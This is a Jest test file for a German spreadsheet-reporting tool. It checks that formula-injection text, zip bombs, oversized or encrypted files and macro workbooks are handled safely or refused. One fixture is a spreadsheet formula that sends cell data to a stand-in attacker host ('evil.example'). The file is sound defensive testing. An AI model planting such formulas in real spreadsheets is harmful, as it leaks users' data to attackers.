import { promises as fs, existsSync } from 'fs';
import * as path from 'path';
import ExcelJS from 'exceljs';
import { reportWorkbook } from '../../src/excel/actions';
import type { TemplateData } from '../../src/workbook/template';
import { DEFAULT_LIMITS, XlsxWorkbook } from '../../src/xlsx/xlsx-workbook';
import { fakeFromTemplate } from '../support/fake-from-template';
import { checkJson, ensureBuiltCli, runCli, spawnCli, expectOneSentence } from './support/cli';
import { sheetXml, zipEntries } from './support/zip';
import { compoundFile, writeZip, type ZipInput } from './support/zip-writer';
import { CLEAN, buildWorkbook, loadExcel, makeTempDir, removeTempDir } from './support/workbooks';

/**
 * Hostile input (issue 7): text that looks like a formula, zip bombs and oversized files, encrypted
 * workbooks, macro workbooks. Each is either handled safely or refused with one German sentence – before
 * anything is expanded, and without touching the input.
 */
jest.setTimeout(120_000);

let dir: string;
let clean: Buffer;

beforeAll(async () => {
  dir = await makeTempDir('hostile');
  clean = Buffer.from(await buildWorkbook(CLEAN));
});

afterAll(() => removeTempDir(dir));

async function file(name: string, bytes: Uint8Array): Promise<string> {
  const p = path.join(dir, name);
  await fs.writeFile(p, bytes);
  return p;
}

/** Runs with environment variables set, restoring them afterwards. */
async function withEnv<T>(vars: Record<string, string>, fn: () => Promise<T>): Promise<T> {
  const before = Object.fromEntries(Object.keys(vars).map((k) => [k, process.env[k]]));
  Object.assign(process.env, vars);
  try {
    return await fn();
  } finally {
    for (const [k, v] of Object.entries(before)) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  }
}

/** The clean workbook's zip entries, to rebuild it with one part changed or added. */
function entriesOf(bytes: Buffer): ZipInput[] {
  return [...zipEntries(bytes)].map(([name, data]) => ({ name, data }));
}

// ------------------------------------------------------------------ text that looks like a formula

const INJECTION = {
  bezeichnung: '=HYPERLINK("http://evil.example/steal?d="&A1,"Klick")',
  auflagen: '+49 6104 1234 (Kämmerei anrufen)',
  oe: '-Umbau-',
  nr: '@M-1',
  szenario: '=Variante A',
  quelle: '@Kämmerei: Minderaufwand',
};

const HOSTILE: TemplateData = {
  ...CLEAN,
  massnahmen: [
    {
      ...CLEAN.massnahmen![0],
      'Maßnahme-Nr.': INJECTION.nr,
      Bezeichnung: INJECTION.bezeichnung,
      Organisationseinheit: INJECTION.oe,
      Auflagen: INJECTION.auflagen,
    },
    // a variant without cover: a finding whose Maßnahme and Szenario columns start with - and =
    {
      'Maßnahme-Nr.': '-M-2',
      Bezeichnung: 'Sachaufwand Variante',
      Art: 'Sachaufwand',
      Beginn: '2027-01-01',
      Planansatz: 1000,
      Haushaltsstelle: '1.1.4430',
      Szenario: INJECTION.szenario,
    },
  ],
  deckung: CLEAN.deckung!.map((d, i) => ({
    ...d,
    'Maßnahme-Nr.': INJECTION.nr,
    ...(i === 1 ? { Quelle: INJECTION.quelle } : {}),
  })),
};

const GENERATED = ['Prüfung', 'Übersicht HFW', 'Berechnung'];
const TEXTS = [
  INJECTION.bezeichnung,
  INJECTION.auflagen,
  INJECTION.oe,
  INJECTION.nr,
  INJECTION.szenario,
  '-M-2',
];

describe('user text starting with = + - @ is written as text, never as a formula', () => {
  test('by the file adapter (ExcelJS): every such cell of Prüfung, Übersicht HFW and Berechnung is a string', async () => {
    const input = await file('formeln.xlsx', await buildWorkbook(HOSTILE));
    const out = path.join(dir, 'formeln-bericht.xlsx');
    const r = await runCli(['report', input, '-o', out]);
    expect(r.stderr).toBe('');
    const wb = await loadExcel(out);
    const found = new Map<string, string[]>();
    for (const name of GENERATED) {
      wb.getWorksheet(name)!.eachRow((row) =>
        row.eachCell((cell) => {
          const v = cell.value;
          // a formula never carries the user's text (neither as its body nor anywhere inside it)
          if (v && typeof v === 'object' && 'formula' in v) {
            expect(v.formula).not.toMatch(/evil\.example|Variante A|Kämmerei anrufen|Umbau/);
            return;
          }
          if (typeof v === 'string' && TEXTS.includes(v)) {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            found.set(v, [...(found.get(v) ?? []), `${name}!${cell.address}`]);
          }
        }),
      );
    }
    for (const t of TEXTS) expect(found.get(t)?.length ?? 0).toBeGreaterThan(0);
    expect(found.get(INJECTION.bezeichnung)!.some((c) => c.startsWith('Übersicht HFW'))).toBe(true);
    expect(found.get(INJECTION.nr)!.some((c) => c.startsWith('Berechnung'))).toBe(true);
    expect(found.get(INJECTION.nr)!.some((c) => c.startsWith('Prüfung'))).toBe(true);
    expect(found.get(INJECTION.szenario)!.some((c) => c.startsWith('Prüfung'))).toBe(true);
    // and in the file itself: no <f> element holds the user's text
    for (const [name, xml] of sheetXml(await fs.readFile(out)))
      if (GENERATED.includes(name)) expect(xml).not.toMatch(/<f>[^<]*(evil\.example|Variante A)/);
  });

  test('by the Office.js adapter (strict fake, where unquoted = + - @ text becomes a formula as in Excel)', async () => {
    const book = fakeFromTemplate(HOSTILE);
    await reportWorkbook(book.context() as unknown as Excel.RequestContext);
    const found = new Set<string>();
    for (const name of GENERATED)
      for (const [, cell] of book.sheet(name)!.cells) {
        if (cell.formula)
          expect(cell.formula).not.toMatch(/evil\.example|Variante A|Kämmerei|Umbau|^@M-1|^-M-2/);
        if (typeof cell.value === 'string' && TEXTS.includes(cell.value)) found.add(cell.value);
      }
    expect([...found].sort()).toEqual([...TEXTS].sort());
  });
});

// ---------------------------------------------------------------------- zip bombs, oversized files

describe('zip bombs and oversized files are refused before they are expanded', () => {
  test('a directory declaring 2 GB for one part: refused from the directory alone, ExcelJS never starts', async () => {
    const bomb = writeZip(
      entriesOf(clean).map((e) =>
        e.name === 'xl/worksheets/sheet1.xml' ? { ...e, declaredSize: 2 * 1024 * 1024 * 1024 - 1 } : e,
      ),
    );
    const input = await file('bombe-verzeichnis.xlsx', bomb);
    const load = jest.spyOn(ExcelJS.Workbook.prototype, 'xlsx', 'get');
    const r = await runCli(['check', input]);
    expectOneSentence(
      r,
      /^Die Arbeitsmappe würde entpackt 2048 MB belegen \(erlaubt: 256 MB\) – die Datei wird abgelehnt, ohne sie zu entpacken/,
    );
    expect(load).not.toHaveBeenCalled();
    load.mockRestore();
  });

  test('a real bomb (64 MB of zeros in 64 KB), with the limit set lower by environment variable', async () => {
    const bomb = writeZip([
      ...entriesOf(clean),
      { name: 'xl/media/nullen.bin', data: Buffer.alloc(64 * 1024 * 1024) },
    ]);
    expect(bomb.length).toBeLessThan(200 * 1024);
    const input = await file('bombe.xlsx', bomb);
    const r = await withEnv({ STELLENPLAN_MAX_UNPACKED_MB: '16' }, () => runCli(['check', input]));
    expectOneSentence(r, /würde entpackt 64 MB belegen \(erlaubt: 16 MB\).*STELLENPLAN_MAX_UNPACKED_MB/);
    // with the default limit (256 MB) the same file is merely large, and read (the spy of the other tests works)
    const load = jest.spyOn(ExcelJS.Workbook.prototype, 'xlsx', 'get');
    expect((await runCli(['check', input])).code).toBe(0);
    expect(load).toHaveBeenCalled();
    load.mockRestore();
  });

  test('a directory that lies (1 KB declared, 64 MB inside): inflation stops right after 1 KB', async () => {
    const forged = writeZip([
      ...entriesOf(clean),
      { name: 'xl/media/luege.bin', data: Buffer.alloc(64 * 1024 * 1024), declaredSize: 1024 },
    ]);
    const input = await file('bombe-gelogen.xlsx', forged);
    const load = jest.spyOn(ExcelJS.Workbook.prototype, 'xlsx', 'get');
    expectOneSentence(
      await runCli(['check', input]),
      /beschädigt oder manipuliert: der gepackte Teil „xl\/media\/luege\.bin“ ist größer als im ZIP-Verzeichnis angegeben/,
    );
    expect(load).not.toHaveBeenCalled();
    load.mockRestore();
  });

  test('the same refusals through the real binary (limits from its environment)', async () => {
    ensureBuiltCli();
    const input = path.join(dir, 'bombe.xlsx');
    const r = await withEnv({ STELLENPLAN_MAX_UNPACKED_MB: '16' }, () => spawnCli(['check', input]));
    expectOneSentence(r, /würde entpackt 64 MB belegen \(erlaubt: 16 MB\)/);
  });

  test('a file larger than allowed is refused before it is read', async () => {
    const input = await file('gross.xlsx', clean);
    const read = jest.spyOn(fs, 'readFile');
    const r = await withEnv({ STELLENPLAN_MAX_FILE_MB: '0,005' }, () => runCli(['check', input]));
    expectOneSentence(r, /^Die Datei ist mit \d+ KB größer als die erlaubten 5 KB und wird nicht geöffnet/);
    expect(read).not.toHaveBeenCalled();
    await runCli(['check', input]);
    expect(read).toHaveBeenCalled(); // the spy sees the reads of the command
    read.mockRestore();
  });

  test('too many parts in the container, and an unusable limit value', async () => {
    const input = await file('teile.xlsx', clean);
    expectOneSentence(
      await withEnv({ STELLENPLAN_MAX_ZIP_ENTRIES: '5' }, () => runCli(['check', input])),
      /^Die Datei enthält \d+ gepackte Teile \(erlaubt: 5\)/,
    );
    expectOneSentence(
      await withEnv({ STELLENPLAN_MAX_FILE_MB: 'viel' }, () => runCli(['check', input])),
      /^Die Umgebungsvariable STELLENPLAN_MAX_FILE_MB=„viel“ ist keine positive Zahl\.$/,
    );
  });

  test('the defaults, and the adapter on its own (browser page) refuses from the directory too', async () => {
    expect(DEFAULT_LIMITS).toEqual({
      maxFileBytes: 50 * 1024 * 1024,
      maxUncompressedBytes: 256 * 1024 * 1024,
      maxEntries: 10_000,
    });
    const bomb = writeZip(
      entriesOf(clean).map((e) =>
        e.name === 'xl/styles.xml' ? { ...e, declaredSize: 300 * 1024 * 1024 } : e,
      ),
    );
    await expect(XlsxWorkbook.open(bomb)).rejects.toThrow(/würde entpackt 3\d\d MB belegen/);
  });
});

// --------------------------------------------------------------------------------- encrypted files

describe('encrypted and old workbooks', () => {
  test('an encrypted workbook (OLE file with EncryptedPackage): exit 2, "verschlüsselt (mit einem Kennwort geschützt)"', async () => {
    const input = await file('kennwort.xlsx', compoundFile(['EncryptionInfo', 'EncryptedPackage']));
    expectOneSentence(
      await runCli(['check', input]),
      /^Die Arbeitsmappe ist verschlüsselt \(mit einem Kennwort geschützt\) und kann nicht gelesen werden/,
    );
    expectOneSentence(await runCli(['check', input, '--lang', 'en']), /encrypted \(password protected\)/);
    expectOneSentence(await runCli(['report', input, '-o', path.join(dir, 'x.xlsx')]), /verschlüsselt/);
  });

  test('an old .xls file (OLE file with a Workbook stream): exit 2, save as .xlsx', async () => {
    const input = await file('alt.xls', compoundFile(['Workbook']));
    expectOneSentence(await runCli(['check', input]), /^Die Datei ist im alten Excel-Format \(\.xls\)/);
  });
});

// ---------------------------------------------------------------------------------- macro workbooks

/** The clean workbook turned into an .xlsm: a VBA project, its relationship and content types. */
function macroWorkbook(vba: Buffer): Buffer {
  const entries = entriesOf(clean).map((e) => {
    if (e.name === '[Content_Types].xml')
      return {
        ...e,
        data: Buffer.from(
          e.data
            .toString('utf8')
            .replace(
              'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
              'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
            )
            .replace(
              '<Default Extension="xml"',
              '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"',
            ),
        ),
      };
    if (e.name === 'xl/_rels/workbook.xml.rels')
      return {
        ...e,
        data: Buffer.from(
          e.data
            .toString('utf8')
            .replace(
              '</Relationships>',
              '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
            ),
        ),
      };
    return e;
  });
  return writeZip([...entries, { name: 'xl/vbaProject.bin', data: vba, stored: true }]);
}

describe('macro workbooks (.xlsm): written with their macros byte for byte, only as .xlsm', () => {
  const vba = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 251));
  let input: string;
  let bytes: Buffer;

  beforeAll(async () => {
    bytes = macroWorkbook(vba);
    input = await file('makros.xlsm', bytes);
    expect(zipEntries(bytes).get('xl/vbaProject.bin')).toEqual(vba);
  });

  test('check reads it as it is', async () => {
    const { code, json } = await checkJson(input);
    expect(code).toBe(0);
    expect(json.measures.map((m) => m.id)).toEqual(['M-1']);
  });

  test('report and adopt write an .xlsm that keeps the VBA project, its relation and the macro content type', async () => {
    const out = path.join(dir, 'makros-bericht.xlsm');
    const r = await runCli(['report', input, '-o', out]);
    expect(r.code).toBe(0);
    const after = zipEntries(await fs.readFile(out));
    expect(after.get('xl/vbaProject.bin')).toEqual(vba);
    expect(after.get('[Content_Types].xml')!.toString()).toContain('macroEnabled.main+xml');
    expect(after.get('xl/_rels/workbook.xml.rels')!.toString()).toContain('Target="vbaProject.bin"');
    expect((await fs.readFile(input)).equals(bytes)).toBe(true);
  });

  test('an .xlsx name for a macro workbook is refused with one German sentence, nothing is written', async () => {
    const out = path.join(dir, 'makros-bericht.xlsx');
    expectOneSentence(
      await runCli(['report', input, '-o', out]),
      /^Die Arbeitsmappe enthält Makros: sie wird mit ihren Makros geschrieben und muss daher auf \.xlsm enden \(„makros-bericht\.xlsx“ würde Excel nicht öffnen\) – bitte -o NAME\.xlsm angeben\.$/,
    );
    expect(existsSync(out)).toBe(false);
  });
});
